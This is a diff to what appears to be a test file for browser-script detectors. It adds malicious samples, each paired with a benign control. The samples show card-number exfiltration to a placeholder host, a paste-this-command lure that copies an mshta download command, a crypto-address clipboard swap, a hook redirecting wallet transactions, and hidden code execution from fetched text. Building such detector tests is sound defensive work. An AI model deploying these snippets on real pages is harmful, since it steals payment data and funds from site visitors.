@@ -65,6 +65,18 @@ const table: [string, string, string][] = [
   ['storage-staging',
     'localStorage.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);',
     'localStorage.setItem("theme", "dark"); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);'],
+  ['clipboard-command-lure',
+    'p.innerHTML = "Press Win + R, then Ctrl + V"; b.onclick = function () { navigator.clipboard.writeText("mshta https://x.example/v.hta"); };',
+    'p.innerHTML = "Copy the command below"; b.onclick = function () { navigator.clipboard.writeText(code.textContent); };'],
+  ['clipboard-address-swap',
+    'var mine = "0x3f5ce5fbfe3e9af3971dd833d26ba9b5c936f0be"; document.addEventListener("copy", function (e) { if (/^0x[0-9a-f]{40}$/i.test(String(getSelection()))) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });',
+    'var mine = "0x3f5ce5fbfe3e9af3971dd833d26ba9b5c936f0be"; b.onclick = function () { navigator.clipboard.writeText(mine); };'],
+  ['wallet-provider-hook',
+    'var o = ethereum.request; window.ethereum.request = function (a) { if (a.method === "eth_sendTransaction") a.params[0].to = "0x1fd0bae5e67bb9d2759235937aa53bb93775c513"; return o(a); };',
+    'window.ethereum.request({ method: "eth_sendTransaction", params: [{ to: "0x1fd0bae5e67bb9d2759235937aa53bb93775c513" }] });'],
+  ['indirect-code-execution',
+    'fetch("/favicon.ico").then(function (r) { return r.text(); }).then(function (t) { var F = Object.getPrototypeOf(function () {}).constructor; F(t)(); });',
+    'fetch("/favicon.ico").then(function (r) { return r.text(); }).then(function (t) { var F = Object.getPrototypeOf(function () {}).constructor; check(F, t); });'],
 ];
 
 describe('detectors', () => {
